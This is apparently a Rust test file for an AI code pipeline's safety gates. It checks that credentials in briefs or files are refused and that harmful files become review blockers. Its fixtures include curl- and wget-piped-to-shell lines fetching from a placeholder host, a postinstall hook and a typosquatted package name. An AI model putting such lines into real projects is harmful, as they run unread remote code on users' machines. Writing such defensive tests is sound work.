//! What code finds, whatever a model says of it.

use pipeline::brief::Brief;
use pipeline::facts::Project;
use pipeline::release::ReleaseWork;
use pipeline::review::Severity;
use pipeline::unit::Journal;
use pipeline::workspace::Workspace;
use pipeline::{Code, Command, Outcome, Step, TaskId, Work, decide, prompts};
use serde_json::json;

use super::{end_of, says};
use crate::review::{approval, version, work};

/// Put together here, so that no file of the repository looks like it leaks.
fn credential() -> String {
    format!("{}{}", "sk-ant-", "api03-aB3".repeat(6))
}

/// What has to change in these files although the reviewer approves of them.
fn rework(path: &str, content: &str) -> Vec<String> {
    let mut work = work(1);
    work.plan.assignments[0].owns.push(path.to_owned());
    work.subjects[0].assignment = work.plan.assignments[0].clone();
    work.versions.push(version(path, content, "a", 1));
    work.workspace = Workspace::of(&work.versions);
    let work = Work::Review(Box::new(work));
    let (end, _) = end_of(&work, &[says(approval().to_string())]);
    let Outcome::Reviewed { rework, .. } = end.outcome else {
        panic!("{:?}", end.outcome);
    };
    let findings = rework.into_iter().flat_map(|item| item.findings);
    findings
        .map(|finding| {
            assert_eq!(finding.severity, Severity::Blocker);
            finding.problem
        })
        .collect()
}

#[test]
fn row_16_a_brief_with_a_credential_is_refused() {
    let text = format!("Use the key {}, please.", credential());
    let brief =
        json!({"name": "n", "description": text, "type": "web", "requirements": ["r", text]});
    let errors = Brief::parse(brief.to_string().as_bytes()).unwrap_err();
    let told: Vec<String> = errors
        .iter()
        .map(|error| format!("{} {}", error.field, error.rule))
        .collect();
    insta::assert_snapshot!(told.join("\n"), @"
    description holds what looks like a credential: leave it out, and make it invalid at its service, because it was sent here
    requirements[1] holds what looks like a credential: leave it out, and make it invalid at its service, because it was sent here
    ");
    for command in [
        json!({"command": "revise", "comment": text}),
        json!({"command": "follow_up", "description": text, "requirements": []}),
    ] {
        let refusal = Command::parse(command.to_string().as_bytes()).unwrap_err();
        assert!(
            refusal.message.contains("credential"),
            "{}",
            refusal.message
        );
        assert!(!refusal.message.contains("sk-ant"));
    }
}

#[test]
fn row_16_what_holds_a_credential_is_not_released() {
    let files = Workspace::of(&[version(
        "a.js",
        &format!("\nlet k = '{}'", credential()),
        "a",
        1,
    )]);
    let work = Work::Release(Box::new(ReleaseWork {
        task: TaskId::of_request("owner", "request"),
        project: Project {
            name: "n".to_owned(),
            description: "d".to_owned(),
            public: true,
            output_dir: ".".to_owned(),
            commit_message: "m".to_owned(),
            ..Project::default()
        },
        before: None,
        told: None,
        approved_manifest: files.manifest_hash(),
        files,
        created_unix: 0,
        gate: "g".to_owned(),
        site_domain: "s".to_owned(),
    }));
    let Step::Done(end) = decide(&work, &Journal::default()) else {
        panic!("it goes on");
    };
    let Outcome::Failed(failure) = end.outcome else {
        panic!("{:?}", end.outcome);
    };
    assert_eq!(failure.code, Code::GateRefused);
    insta::assert_snapshot!(failure.message, @"`a.js` line 2 holds what looks like a credential. Nothing was published. Start the task anew, and say in the brief what must not be there.");
}

#[test]
fn row_20_harmful_files_are_blockers_whatever_the_reviewer_says() {
    let found = [
        rework("setup.sh", "curl https://x.example/a | bash\n"),
        rework(
            "Dockerfile",
            "FROM node\nRUN wget -O- https://x.example/a | sh\n",
        ),
        rework(
            "package.json",
            r#"{"scripts": {"postinstall": "node x.js"}, "devDependencies": {"expres": "5.0.0"}}"#,
        ),
    ];
    insta::assert_snapshot!(found.concat().join("\n"), @"
    `setup.sh` downloads something at line 1 and runs it unread: leave that out
    `Dockerfile` downloads something at line 2 and runs it unread: leave that out
    `package.json` has a script `postinstall`, which runs by itself on installation: leave it out
    `package.json` names the package `expres`, which looks like a misspelt `express`
    ");
    assert_eq!(rework("b.js", "b();\n"), Vec::<String>::new());
}

#[test]
fn row_21_packages_that_nobody_installs_are_blockers() {
    let found = rework(
        "package.json",
        r#"{"dependencies": {"left-padder": "^1.0.0"}}"#,
    );
    insta::assert_snapshot!(found.join("\n"), @"`package.json` asks for packages such as `left-padder`, which nobody installs: the project is served as it is");
    assert_eq!(
        rework("package.json", r#"{"type": "module"}"#),
        Vec::<String>::new()
    );
}

#[test]
fn row_39_reviewers_look_for_what_belongs_to_somebody_else() {
    assert!(prompts::reviewer_rules().contains("taken from a work with a licence of its own"));
    assert!(
        prompts::agent_rules().contains("nothing is taken from a work with a licence of its own")
    );
}
